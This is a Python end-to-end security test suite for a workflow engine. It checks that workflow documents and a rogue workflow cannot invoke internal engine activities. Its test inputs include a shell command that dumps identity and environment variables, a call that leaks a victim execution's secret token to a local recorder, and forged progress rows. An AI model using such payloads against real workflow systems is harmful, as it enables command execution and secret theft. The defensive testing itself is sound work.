"""A document cannot reach the engine's activities, another runner pool, or another execution.

Real services as subprocesses on the session's Redis and Temporal dev server:

- pool A: stigmer-server and a workflow-runner (``run`` disabled) whose operator allows
  ``Echo`` on a test queue and, to show that no allow-list exposes them, every activity on
  pool B's interpreter queue;
- pool B: a second workflow-runner with ``STIGMER_ALLOW_RUN=1`` on its own queues;
- a test worker polling its own uuid queue with a tiny ``Echo`` activity and a rogue workflow.

A victim execution runs (waiting) with a secret the attacks try to steal or write into.
"""

from __future__ import annotations

import asyncio
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import grpc
import pytest
import pytest_asyncio
import yaml
from stigmer_dsl.converter import dsl_to_workflow_spec
from stigmer_protos.ai.stigmer.agentic.workflowexecution import v1 as wex
from stigmer_protos.ai.stigmer.agentic.workflowexecution.v1 import command_pb2_grpc as wex_cmd
from stigmer_testing.executions import (
    dsl_document,
    follow,
    get_execution,
    start_execution,
)
from stigmer_testing.http_stub import QuietHandler, serve_http
from stigmer_testing.services import stop_process, wait_grpc_serving
from stigmer_testing.stack import service_env
from temporalio import activity, workflow
from temporalio.client import Client
from temporalio.common import RetryPolicy
from temporalio.exceptions import ActivityError, ApplicationError
from temporalio.worker import UnsandboxedWorkflowRunner, Worker

pytestmark = pytest.mark.e2e

Phase = wex.ExecutionPhase
CONFIGURATION = "https://serverlessworkflow.io/spec/1.0.0/errors/configuration"
SECRET = "victim-s3cret-value"


class _Recorder(QuietHandler):
    """Records every request it receives (path and headers)."""

    seen: list[str] = []

    def _record(self) -> None:
        _Recorder.seen.append(f"{self.command} {self.path} {dict(self.headers)}")
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = _record


@dataclass(frozen=True)
class Stack:
    endpoint: str
    recorder: str
    test_queue: str
    pool_a_interpreter_queue: str
    pool_b_interpreter_queue: str


@pytest.fixture(scope="module")
def recorder() -> Iterator[str]:
    with serve_http(_Recorder) as url:
        yield url


@pytest.fixture(scope="module")
def stack(redis_url: str, temporal_address: str, recorder: str) -> Iterator[Stack]:
    """Pool A (server + runner, allow-list set) and pool B (runner allowing ``run``)."""
    run = uuid.uuid4().hex[:8]
    test_queue = f"acts-{run}"
    pool_b_interpreter = f"zigflow-b-{run}"
    base = {**service_env(redis_url, temporal_address, "e2e-sec"), "STIGMER_ALLOW_RUN": ""}
    endpoint = base["STIGMER_BACKEND_ENDPOINT"]
    pool_a = {
        **base,
        "STIGMER_CALL_ACTIVITY_ALLOW": f"Echo@{test_queue},*@{pool_b_interpreter}",
    }
    pool_b = {
        **base,
        "TEMPORAL_WORKFLOW_EXECUTION_RUNNER_TASK_QUEUE": f"runner-b-{run}",
        "TEMPORAL_ZIGFLOW_EXECUTION_TASK_QUEUE": pool_b_interpreter,
        "STIGMER_ALLOW_RUN": "1",
        "STIGMER_CALL_ACTIVITY_ALLOW": "",
    }
    server = subprocess.Popen([sys.executable, "-m", "stigmer_server.main"], env=pool_a)
    runners = [
        subprocess.Popen([sys.executable, "-m", "workflow_runner.main"], env=env)
        for env in (pool_a, pool_b)
    ]
    try:
        wait_grpc_serving(endpoint, server, timeout=120)
        yield Stack(
            endpoint,
            recorder,
            test_queue,
            base["TEMPORAL_ZIGFLOW_EXECUTION_TASK_QUEUE"],
            pool_b_interpreter,
        )
    finally:
        for proc in (*runners, server):
            stop_process(proc)


@activity.defn(name="Echo")
async def echo(value: Any) -> Any:
    return {"echoed": value}


@workflow.defn(name="RogueWorkflow", sandboxed=False)
class RogueWorkflow:
    """Schedules an engine activity directly, with arguments naming another execution."""

    @workflow.run
    async def run(self, name: str, task_queue: str, argument: Any) -> str:
        try:
            await workflow.execute_activity(
                name,
                argument,
                task_queue=task_queue,
                start_to_close_timeout=timedelta(seconds=30),
                retry_policy=RetryPolicy(maximum_attempts=1),
            )
        except ActivityError as err:
            cause = err.cause
            return cause.type or "?" if isinstance(cause, ApplicationError) else repr(cause)
        return "ran"


@pytest_asyncio.fixture
async def test_worker(temporal_client: Client, stack: Stack) -> AsyncIterator[None]:
    async with Worker(
        temporal_client,
        task_queue=stack.test_queue,
        workflows=[RogueWorkflow],
        activities=[echo],
        workflow_runner=UnsandboxedWorkflowRunner(),
    ):
        yield


@pytest_asyncio.fixture
async def channel(stack: Stack) -> AsyncIterator[grpc.aio.Channel]:
    async with grpc.aio.insecure_channel(stack.endpoint) as ch:
        yield ch


async def _start(
    channel: grpc.aio.Channel,
    tasks: list[dict[str, Any]],
    data: dict[str, Any] | None = None,
    secrets: dict[str, str] | None = None,
) -> str:
    name = f"sec-{uuid.uuid4().hex[:8]}"
    document = dsl_document(name, tasks)
    spec = dsl_to_workflow_spec(yaml.safe_dump(document))
    created = await start_execution(channel, name, spec, data, secrets)
    execution_id: str = created.metadata.id
    return execution_id


async def _finished(channel: grpc.aio.Channel, execution_id: str) -> wex.WorkflowExecution:
    return (await follow(channel, execution_id))[-1]


@pytest_asyncio.fixture
async def victim(channel: grpc.aio.Channel) -> AsyncIterator[str]:
    """A running execution holding a secret, with one reported task row."""
    execution_id = await _start(
        channel,
        [{"first": {"set": {"x": 1}}}, {"hold": {"wait": {"minutes": 10}}}],
        secrets={"token": SECRET},
    )
    expected = ["/do/0/first", "/do/1/hold"]
    for _ in range(300):
        if [
            t.task_id for t in (await get_execution(channel, execution_id)).status.tasks
        ] == expected:
            break
        await asyncio.sleep(0.2)
    else:
        raise AssertionError("the victim execution never reached its wait task")
    yield execution_id
    await wex_cmd.WorkflowExecutionCommandControllerStub(channel).cancel(
        wex.WorkflowExecutionCancelInput(execution_id=execution_id, reason="test over")
    )


def _rows(execution: wex.WorkflowExecution) -> list[tuple[str, int]]:
    return [(t.task_id, int(t.status)) for t in execution.status.tasks]


async def _assert_configuration_failure(
    channel: grpc.aio.Channel, execution_id: str, *expected: str
) -> None:
    done = await _finished(channel, execution_id)
    assert done.status.phase == Phase.EXECUTION_FAILED, done.status
    details = done.status.error_details.to_dict()
    assert details["type"] == CONFIGURATION, details
    for text in expected:
        assert text in done.status.error, done.status.error


async def test_documents_cannot_call_engine_activities(
    channel: grpc.aio.Channel, stack: Stack, victim: str, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    before = _rows(await get_execution(channel, victim))
    _Recorder.seen.clear()
    # Run a process on pool B, the pool that allows run.
    run_process = await _start(
        channel,
        [
            {
                "pwn": {
                    "call": "activity",
                    "with": {
                        "name": "ServerlessWorkflowRunProcess",
                        "taskQueue": stack.pool_b_interpreter_queue,
                        "arguments": [{"kind": "shell", "command": f"touch {marker}; id; env"}],
                    },
                }
            }
        ],
    )
    # Send the victim's secrets to an endpoint of the document's choice; the name is an
    # expression, so it is checked at run time.
    http_call = await _start(
        channel,
        [
            {
                "steal": {
                    "call": "activity",
                    "with": {
                        "name": "${ .activity }",
                        "taskQueue": stack.pool_b_interpreter_queue,
                        "arguments": [
                            {
                                "method": "get",
                                "uri": f"{stack.recorder}/leak",
                                "headers": {"X-Leak": None},
                                "secret_sites": [
                                    {"path": ["headers", "X-Leak"], "expression": "$secrets.token"}
                                ],
                                "secret_scope": {"data": None, "variables": {}},
                                "execution_id": victim,
                            }
                        ],
                    },
                }
            }
        ],
        data={"activity": "ServerlessWorkflowHttpCall"},
    )
    # Write task rows into the victim through the progress activity.
    progress = await _start(
        channel,
        [
            {
                "forge": {
                    "call": "activity",
                    "with": {
                        "name": "ReportTaskProgress",
                        "taskQueue": stack.pool_a_interpreter_queue,
                        "arguments": [
                            {
                                "execution_id": victim,
                                "tasks": [
                                    {
                                        "task_id": "/do/9/forged",
                                        "task_name": "forged",
                                        "task_kind": "set",
                                        "status": "FAILED",
                                    }
                                ],
                            }
                        ],
                    },
                }
            }
        ],
    )
    await _assert_configuration_failure(
        channel, run_process, "/do/0/pwn", "'ServerlessWorkflowRunProcess' is internal"
    )
    await _assert_configuration_failure(
        channel, http_call, "'ServerlessWorkflowHttpCall' is internal"
    )
    steal = await get_execution(channel, http_call)
    assert steal.status.error_details.to_dict()["instance"] == "/do/0/steal"
    await _assert_configuration_failure(
        channel, progress, "/do/0/forge", "'ReportTaskProgress' is internal"
    )
    assert not marker.exists()
    assert _Recorder.seen == []
    after = await get_execution(channel, victim)
    assert _rows(after) == before and after.status.phase == Phase.EXECUTION_IN_PROGRESS


async def test_only_listed_activities_run(
    channel: grpc.aio.Channel, stack: Stack, test_worker: None
) -> None:
    listed = await _start(
        channel, [{"e": {"call": "activity", "with": {"name": "Echo", "arguments": ["hi"]}}}]
    )
    other = await _start(
        channel,
        [
            {
                "e": {
                    "call": "activity",
                    "with": {"name": "Other", "taskQueue": stack.test_queue},
                }
            }
        ],
    )
    dynamic = await _start(
        channel,
        [{"e": {"call": "activity", "with": {"name": "${ .n }", "taskQueue": stack.test_queue}}}],
        data={"n": "Other"},
    )
    done = await _finished(channel, listed)
    assert done.status.phase == Phase.EXECUTION_COMPLETED, done.status.error
    assert done.status.output.to_dict() == {"echoed": "hi"}
    await _assert_configuration_failure(
        channel,
        other,
        f"/do/0/e: activity 'Other' on task queue '{stack.test_queue}' is not allowed",
    )
    await _assert_configuration_failure(channel, dynamic, "activity 'Other' on task queue")


async def test_engine_activities_serve_only_interpreter_workflows(
    temporal_client: Client, stack: Stack, victim: str, test_worker: None
) -> None:
    _Recorder.seen.clear()
    before = _rows(await _get_via(stack, victim))
    leak = {
        "method": "get",
        "uri": f"{stack.recorder}/leak",
        "headers": {"X-Leak": None},
        "secret_sites": [{"path": ["headers", "X-Leak"], "expression": "$secrets.token"}],
        "secret_scope": {"data": None, "variables": {}},
        "execution_id": victim,
    }
    forged = {
        "execution_id": victim,
        "tasks": [
            {"task_id": "/do/9/forged", "task_name": "f", "task_kind": "set", "status": "FAILED"}
        ],
    }
    for name, queue, argument in (
        ("ServerlessWorkflowHttpCall", stack.pool_b_interpreter_queue, leak),
        ("ReportTaskProgress", stack.pool_a_interpreter_queue, forged),
    ):
        outcome = await temporal_client.execute_workflow(
            RogueWorkflow.run,
            args=[name, queue, argument],
            id=f"rogue-{uuid.uuid4()}",
            task_queue=stack.test_queue,
            execution_timeout=timedelta(seconds=60),
        )
        assert outcome == "NotScheduledByInterpreter", (name, outcome)
    assert _Recorder.seen == []
    assert _rows(await _get_via(stack, victim)) == before


async def _get_via(stack: Stack, execution_id: str) -> wex.WorkflowExecution:
    async with grpc.aio.insecure_channel(stack.endpoint) as ch:
        return await get_execution(ch, execution_id)
